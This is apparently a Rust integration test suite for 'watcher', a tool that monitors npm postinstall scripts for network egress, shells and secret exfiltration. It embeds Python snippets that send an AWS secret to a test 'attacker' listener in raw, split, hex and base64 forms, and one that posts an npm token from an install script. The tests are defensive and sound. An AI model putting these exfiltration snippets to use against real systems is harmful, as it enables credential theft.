//! Secrets and attribution, for real (root): attribution at any depth below an install
//! script, protected values never written by watcher in any form, and values found anywhere
//! in the first 64 KiB of a TCP stream and in every UDP datagram. The attacker is a listener
//! inside a network namespace the test creates (recording every connection and its bytes).
use std::{
    net::{IpAddr, SocketAddr},
    path::Path,
    process::{Command, Stdio},
};

use serde_json::Value;
use watcher_tests::{HttpServer, Listener, Netns, lab::in_netns, read_jsonl, root_or_skip, watcher_bin};

/// Subnets of Netns (distinct per test in this file, away from the other files' ones).
const SUBNET_DEPTH: u16 = 1101;
const SUBNET_STREAM: u16 = 1102;
const SUBNET_REDACT: u16 = 1103;

/// A listener on the namespace side of `ns` (the attacker host).
fn attacker(ns: &Netns) -> Listener {
    let addr = SocketAddr::new(IpAddr::V4(ns.ns_v4()), 0);
    in_netns(ns.name(), move || Listener::start(addr)).expect("attacker listener in the namespace")
}

struct Out {
    code: Option<i32>,
    stdout: String,
    stderr: String,
    events: Vec<Value>,
}

impl Out {
    fn alerts(&self, rule: &str) -> Vec<&Value> {
        self.events.iter().filter(|e| e["kind"] == "alert" && e["rule"] == rule).collect()
    }
}

/// `watcher run --policy P --log L [extra] -- sh -c SCRIPT`, as npm runs a postinstall
/// (`npm_lifecycle_event`), with `env` added.
fn run(dir: &Path, policy: &str, script: &str, npm: bool, env: &[(&str, &str)], extra: &[&str]) -> Out {
    let p = dir.join("p.yaml");
    std::fs::write(&p, policy).unwrap();
    let log = dir.join("e.jsonl");
    let _ = std::fs::remove_file(&log);
    let mut cmd = Command::new(watcher_bin());
    cmd.args(["run", "--policy"]).arg(&p).arg("--log").arg(&log).args(extra).args(["--", "sh", "-c", script]);
    if npm {
        cmd.env("npm_lifecycle_event", "postinstall")
            .env("npm_package_name", "evil-pkg")
            .env("npm_package_version", "99.99.9");
    }
    for (k, v) in env {
        cmd.env(k, v);
    }
    let out = cmd.stdin(Stdio::null()).output().unwrap();
    Out {
        code: out.status.code(),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        events: if log.exists() { read_jsonl(&log) } else { vec![] },
    }
}

fn policy(mode: &str, allow: &str) -> String {
    format!(
        "version: 1\npipeline: secrets-test\nmode: {mode}\negress:\n  loopback: false\n{allow}dns:\n  resolvers: [system]\nsecrets:\n  env: [\"AWS_*\", \"*_TOKEN\"]\n"
    )
}

// ------------------------------------------------------------------------ attribution

/// Python: fork a chain DEPTH deep; the last process connects to the attacker, sends a line,
/// then execs a shell.
const CHAIN: &str = r#"
import os, socket, sys
depth, host, port = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
for level in range(depth):
    pid = os.fork()
    if pid:
        _, st = os.waitpid(pid, 0)
        os._exit(os.waitstatus_to_exitcode(st) if level else 0)
try:
    s = socket.create_connection((host, port), timeout=3)
    s.sendall(b"deep hello\n")
    s.close()
    print("LEAF-CONNECTED", flush=True)
except OSError as e:
    print("LEAF-CONNECT-FAILED", e, flush=True)
os.execv("/bin/sh", ["sh", "-c", "echo LEAF-SHELL-RAN"])
"#;

#[test]
fn a_process_300_forks_below_an_install_script_is_attributed_and_enforced() {
    if !root_or_skip() {
        return;
    }
    let ns = Netns::new(SUBNET_DEPTH).unwrap();
    let bad = attacker(&ns);
    let dir = tempfile::tempdir().unwrap();
    let chain = dir.path().join("chain.py");
    std::fs::write(&chain, CHAIN).unwrap();
    // The real interpreter, not a pyenv shim (a bash script: a shell of its own).
    let script = format!("/usr/bin/python3 {} 300 {} {}", chain.display(), bad.addr().ip(), bad.addr().port());

    // `shells: deny` (strict): the leaf's plain `sh -c` is an alert only when it is known to be
    // inside the install script, so it proves the attribution as the connect does.
    let strict = |mode| policy(mode, "") + "exec:\n  install_scripts:\n    shells: deny\n";
    // Audit: flagged, attributed to the package, let through.
    let a = run(dir.path(), &strict("audit"), &script, true, &[], &[]);
    assert_eq!(a.code, Some(0), "{}", a.stderr);
    assert!(a.stdout.contains("LEAF-CONNECTED") && a.stdout.contains("LEAF-SHELL-RAN"), "{}", a.stdout);
    let connects: Vec<&Value> = a.events.iter().filter(|e| e["kind"] == "connect").collect();
    assert_eq!(bad.connections(), 1, "{connects:#?}\n{}", a.stdout);
    let eg = a.alerts("egress-denied");
    assert_eq!(eg.len(), 1, "{eg:#?}");
    assert_eq!(eg[0]["package"], "npm:evil-pkg@99.99.9 (postinstall)");
    assert_eq!(eg[0]["action"], "flag");
    let sh = a.alerts("shell-from-install-script");
    assert_eq!(sh.len(), 1, "{sh:#?}");
    assert_eq!(sh[0]["package"], "npm:evil-pkg@99.99.9 (postinstall)");
    // The chain really was that deep in the log.
    assert!(a.events.iter().filter(|e| e["kind"] == "fork").count() >= 300);

    // Enforce: the connect is denied in the kernel, the shell killed, both reported, exit 77.
    let e = run(dir.path(), &strict("enforce"), &script, true, &[], &[]);
    assert_eq!(e.code, Some(77), "{}", e.stderr);
    assert!(e.stdout.contains("LEAF-CONNECT-FAILED"), "{}", e.stdout);
    assert!(!e.stdout.contains("LEAF-SHELL-RAN"), "the shell ran: {}", e.stdout);
    assert_eq!(bad.connections(), 1, "the attacker got a connection in enforce mode");
    let eg = e.alerts("egress-denied");
    assert_eq!((eg.len(), &eg[0]["action"]), (1, &Value::from("deny")));
    assert_eq!(eg[0]["package"], "npm:evil-pkg@99.99.9 (postinstall)");
    let sh = e.alerts("shell-from-install-script");
    assert_eq!((sh.len(), &sh[0]["action"]), (1, &Value::from("kill")), "{}", e.stderr);
    assert_eq!(sh[0]["package"], "npm:evil-pkg@99.99.9 (postinstall)");
    // Every exec the kernel killed, or held for a kill verdict (the shell), has its alert.
    let killed = e.events.iter().filter(|x| x["kind"] == "exec" && (x["killed"] == true || x["held"] == true)).count();
    let kills = e.events.iter().filter(|x| x["kind"] == "alert" && x["action"] == "kill").count();
    assert!(killed >= 1 && kills >= killed, "{killed} killed or held execs, {kills} kill alerts");
}

// ------------------------------------------------------------------------ redaction

/// Every form a reader could decode the value back from (16-character stretches of its raw,
/// hex and base64 forms) is absent from `text`.
fn assert_no_form(what: &str, text: &str, value: &str) {
    use data_encoding::{BASE64, HEXLOWER, HEXUPPER};
    let forms = [
        value.to_string(),
        HEXLOWER.encode(value.as_bytes()),
        HEXUPPER.encode(value.as_bytes()),
        BASE64.encode(value.as_bytes()),
        BASE64.encode(format!("{value}\n").as_bytes()),
    ];
    for f in &forms {
        for w in f.as_bytes().windows(16) {
            assert!(!text.as_bytes().windows(16).any(|x| x == w), "{what} holds a form of the value: {f}\n{text}");
        }
    }
}

#[test]
fn a_protected_value_on_the_command_line_is_in_no_file_watcher_writes() {
    if !root_or_skip() {
        return;
    }
    use data_encoding::{BASE64, HEXLOWER};
    let _ns = Netns::new(SUBNET_REDACT).unwrap();
    let value = "Zq8LmN4pR7sT2vW9xY3bC6dFhJ";
    let hex = HEXLOWER.encode(value.as_bytes());
    let b64 = BASE64.encode(value.as_bytes());
    let dir = tempfile::tempdir().unwrap();
    // A program named after the hex form, denied by an exec rule: its alert message names it.
    let tools = dir.path().join("tools");
    std::fs::create_dir(&tools).unwrap();
    let tool = tools.join(format!("{hex}-tool"));
    std::fs::write(&tool, "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::set_permissions(&tool, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let pol = format!(
        "version: 1\npipeline: redact-test\nmode: audit\nexec:\n  deny: [\"{}/**\"]\nsecrets:\n  env: [\"AWS_*\"]\n",
        tools.display()
    );
    let script = format!("echo {value} {hex} {b64} >/dev/null; {} {b64}; true", tool.display());
    let summary = dir.path().join("step-summary.md");
    let env = [("AWS_SECRET_ACCESS_KEY", value), ("GITHUB_STEP_SUMMARY", summary.to_str().unwrap())];
    for ext in ["json", "sarif", "md", "txt"] {
        let report = dir.path().join(format!("report.{ext}"));
        let out = run(dir.path(), &pol, &script, false, &env, &["--report", report.to_str().unwrap()]);
        assert_eq!(out.code, Some(0), "{}", out.stderr);
        let log = std::fs::read_to_string(dir.path().join("e.jsonl")).unwrap();
        // The run really carried the value, and the log says it was taken out.
        let start = out.events.iter().find(|e| e["kind"] == "start").unwrap();
        assert!(start["command"][2].as_str().unwrap().contains("[hex of Zq…(26 chars)]"), "{start}");
        assert!(out.events.iter().any(|e| e["kind"] == "exec" && e["argv_redacted"] == true));
        assert!(!out.alerts("exec-denied").is_empty(), "{}", out.stderr);
        assert_no_form("the log", &log, value);
        assert_no_form("stderr", &out.stderr, value);
        assert_no_form(&format!("the .{ext} report"), &std::fs::read_to_string(&report).unwrap(), value);
    }
    assert_no_form("the step summary", &std::fs::read_to_string(&summary).unwrap(), value);

    // A command that cannot run, named by the value: stderr names it redacted.
    let p = dir.path().join("p.yaml");
    let out = Command::new(watcher_bin())
        .args(["run", "--policy"])
        .arg(&p)
        .arg("--log")
        .arg(dir.path().join("e2.jsonl"))
        .args(["--", &format!("{value}-x")])
        .env("AWS_SECRET_ACCESS_KEY", value)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(127), "{stderr}");
    assert!(stderr.contains("cannot run Zq…(26 chars)-x"), "{stderr}");
    assert_no_form("stderr", &stderr, value);
    assert_no_form("the log", &std::fs::read_to_string(dir.path().join("e2.jsonl")).unwrap(), value);
}

// ------------------------------------------------------------------------ whole streams

/// Python: each case to its own attacker port (argv: host, then the ports in order).
const SENDER: &str = r#"
import os, socket, sys, time, base64, binascii
host = sys.argv[1]
ports = [int(p) for p in sys.argv[2:]]
v = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
def tcp(port, *pieces, nodelay=False, pause=0.0):
    s = socket.create_connection((host, port), timeout=3)
    if nodelay:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for p in pieces:
        s.sendall(p)
        if pause:
            time.sleep(pause)
    s.close()
half = len(v) // 2
# 1. after 700 bytes of padding, in one write
tcp(ports[0], b"POST /u HTTP/1.1\r\n\r\n" + b"p" * 700 + b"&k=" + v + b"&end")
# 2. split across two writes
tcp(ports[1], b"x=" + v[:half], v[half:] + b"\n")
# 3. split across two TCP segments (no Nagle, a pause between)
tcp(ports[2], b"GET /" + v[:half], v[half:] + b" HTTP/1.1\r\n\r\n", nodelay=True, pause=0.05)
# 4. hex, in a UDP datagram after the first
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.connect((host, ports[3]))
u.send(b"hello")
time.sleep(0.05)
u.send(b"d=" + binascii.hexlify(v))
u.close()
# 5. base64 after 3000 bytes, in chunks of 1000
tcp(ports[4], *[b"q" * 1000] * 3, b"t=" + base64.b64encode(v) + b";")
# 6. a TLS stream: its bytes are not searched
tcp(ports[5], b"\x16\x03\x01\x02\x00\x01" + v)
print("SENT", flush=True)
"#;

#[test]
fn a_value_anywhere_in_the_first_64k_of_a_stream_or_in_any_datagram_is_found() {
    if !root_or_skip() {
        return;
    }
    use data_encoding::{BASE64, HEXLOWER};
    let ns = Netns::new(SUBNET_STREAM).unwrap();
    let listeners: Vec<Listener> = (0..6).map(|_| attacker(&ns)).collect();
    let host = ns.ns_v4().to_string();
    let ports: Vec<String> = listeners.iter().map(|l| l.addr().port().to_string()).collect();
    let value = "Hx7Kp2Qm9Zr4Lt6Wv8Bn3Cy5Df1Gj0Sa";
    let dir = tempfile::tempdir().unwrap();
    let sender = dir.path().join("send.py");
    std::fs::write(&sender, SENDER).unwrap();
    let script = format!("/usr/bin/python3 {} {host} {}", sender.display(), ports.join(" "));
    let allow = format!("  allow:\n    - cidr: {host}/32\n");
    let env = [("AWS_SECRET_ACCESS_KEY", value)];
    for mode in ["audit", "enforce"] {
        let out = run(dir.path(), &policy(mode, &allow), &script, true, &env, &["--quiet"]);
        assert!(out.stdout.contains("SENT"), "{}\n{}", out.stdout, out.stderr);
        assert_eq!(out.code, Some(if mode == "audit" { 0 } else { 77 }), "{}", out.stderr);
        // The attacker really got each form (the test sends what it says).
        let got = |i: usize| listeners[i].payloads().concat();
        let has = |hay: &[u8], needle: &[u8]| hay.windows(needle.len()).any(|w| w == needle);
        assert!(has(&got(0), value.as_bytes()) && has(&got(2), &value.as_bytes()[value.len() / 2..]));
        assert!(has(&got(3), HEXLOWER.encode(value.as_bytes()).as_bytes()));
        assert!(has(&got(4), BASE64.encode(value.as_bytes()).as_bytes()));
        let sec = out.alerts("secret-exfil");
        for (i, port) in ports.iter().enumerate().take(5) {
            let a: Vec<&&Value> =
                sec.iter().filter(|a| a["message"].as_str().unwrap().contains(&format!("{host}:{port}/"))).collect();
            assert_eq!(a.len(), 1, "{mode}: case {} (port {port}) not flagged once: {sec:#?}", i + 1);
            assert_eq!(a[0]["severity"], "critical");
            assert_eq!(a[0]["variable"], "AWS_SECRET_ACCESS_KEY");
            assert_eq!(a[0]["package"], "npm:evil-pkg@99.99.9 (postinstall)");
        }
        assert!(
            !sec.iter().any(|a| a["message"].as_str().unwrap().contains(&format!(":{}/", ports[5]))),
            "TLS searched"
        );
        // Each find is a send event with its offset in the stream.
        let sends: Vec<&Value> = out.events.iter().filter(|e| e["kind"] == "send" && e["secrets"].is_array()).collect();
        let at = |port: &str, enc: &str| -> u64 {
            let e = sends
                .iter()
                .find(|e| e["dport"] == port.parse::<u64>().unwrap() && e["secrets"][0]["encoding"] == enc)
                .unwrap_or_else(|| panic!("no {enc} send to {port}: {sends:#?}"));
            e["offset"].as_u64().unwrap()
        };
        assert_eq!(at(&ports[0], "raw"), 20 + 700 + 3);
        assert_eq!(at(&ports[1], "raw"), 2);
        assert_eq!(at(&ports[2], "raw"), 5);
        assert!((5 + 2..5 + 4).contains(&at(&ports[3], "hex")), "{}", at(&ports[3], "hex"));
        assert!((3002..3005).contains(&at(&ports[4], "base64")), "{}", at(&ports[4], "base64"));
        let log = std::fs::read_to_string(dir.path().join("e.jsonl")).unwrap();
        assert_no_form("the log", &log, value);
        assert_no_form("stderr", &out.stderr, value);
    }
}

// ------------------------------------------------------------------------ own credentials

#[test]
fn npm_sending_its_own_token_to_its_registry_is_not_an_alert_an_install_script_sending_it_is() {
    if !root_or_skip() {
        return;
    }
    if Command::new("npm").arg("--version").output().map(|o| !o.status.success()).unwrap_or(true) {
        eprintln!("skipped: npm is not installed");
        return;
    }
    let reg = HttpServer::start("127.0.0.1:0".parse().unwrap()).unwrap();
    let port = reg.addr().port();
    let packument = format!(
        "{{\"name\":\"left-pad\",\"dist-tags\":{{\"latest\":\"1.3.0\"}},\"versions\":{{\"1.3.0\":{{\"name\":\"left-pad\",\"version\":\"1.3.0\",\"dist\":{{\"tarball\":\"http://127.0.0.1:{port}/left-pad/-/left-pad-1.3.0.tgz\"}}}}}}}}"
    );
    reg.route("/left-pad", "application/json", packument);
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("package.json"), "{\"name\":\"app\",\"version\":\"1.0.0\"}").unwrap();
    std::fs::write(
        dir.path().join(".npmrc"),
        format!("registry=http://127.0.0.1:{port}/\n//127.0.0.1:{port}/:_authToken=${{NPM_TOKEN}}\n"),
    )
    .unwrap();
    let token = "npm_Xq3v9LmT2pR8sW4kZ7bN1cY6dF0gH5jK";
    let pol = dir.path().join("p.yaml");
    std::fs::write(
        &pol,
        "version: 1\npipeline: cred\nmode: enforce\negress:\n  registries: [npm]\n  loopback: false\ndns:\n  resolvers: [system]\nsecrets:\n  env: [\"*_TOKEN\"]\n",
    )
    .unwrap();
    let watch = |script: &str, npm_env: bool| {
        let log = dir.path().join("e.jsonl");
        let _ = std::fs::remove_file(&log);
        let mut cmd = Command::new(watcher_bin());
        cmd.args(["run", "--quiet", "--policy"]).arg(&pol).arg("--log").arg(&log).args(["--", "sh", "-c", script]);
        cmd.current_dir(dir.path())
            .env("NPM_TOKEN", token)
            .env("HOME", dir.path())
            .env("npm_config_cache", dir.path().join("cache"))
            .env("npm_config_update_notifier", "false");
        if npm_env {
            cmd.env("npm_lifecycle_event", "postinstall")
                .env("npm_package_name", "worm")
                .env("npm_package_version", "6.6.6");
        }
        let out = cmd.stdin(Stdio::null()).output().unwrap();
        (out, read_jsonl(&log))
    };
    // npm itself: it sends the token (watcher sees it), and that is not an alert.
    let (out, events) = watch("npm view left-pad version", false);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(String::from_utf8_lossy(&out.stdout).contains("1.3.0"), "{stderr}");
    let sends: Vec<&Value> =
        events.iter().filter(|e| e["kind"] == "send" && e["secrets"][0]["variable"] == "NPM_TOKEN").collect();
    assert!(!sends.is_empty(), "npm's request carrying its token was not seen: {stderr}");
    assert_eq!(sends[0]["credential_of"][0], "npm:127.0.0.1");
    let alerts: Vec<&Value> = events.iter().filter(|e| e["kind"] == "alert").collect();
    assert!(alerts.is_empty(), "{alerts:#?}");
    // The same token sent to the same registry from an install script: critical, exit 77.
    let send = format!(
        "/usr/bin/python3 -c \"import os,socket; s=socket.create_connection(('127.0.0.1',{port})); s.sendall(b'PUT /worm HTTP/1.1\\r\\nAuthorization: Bearer '+os.environ['NPM_TOKEN'].encode()+b'\\r\\n\\r\\n'); s.close()\""
    );
    let (out, events) = watch(&send, true);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(77), "{stderr}");
    let sec: Vec<&Value> = events.iter().filter(|e| e["kind"] == "alert" && e["rule"] == "secret-exfil").collect();
    assert_eq!(sec.len(), 1, "{stderr}");
    assert_eq!(sec[0]["severity"], "critical");
    assert_eq!(sec[0]["package"], "npm:worm@6.6.6 (postinstall)");
    // Replay gives the same verdicts.
    let rep = Command::new(watcher_bin()).arg("replay").arg(dir.path().join("e.jsonl")).output().unwrap();
    assert_eq!(rep.status.code(), Some(77));
}
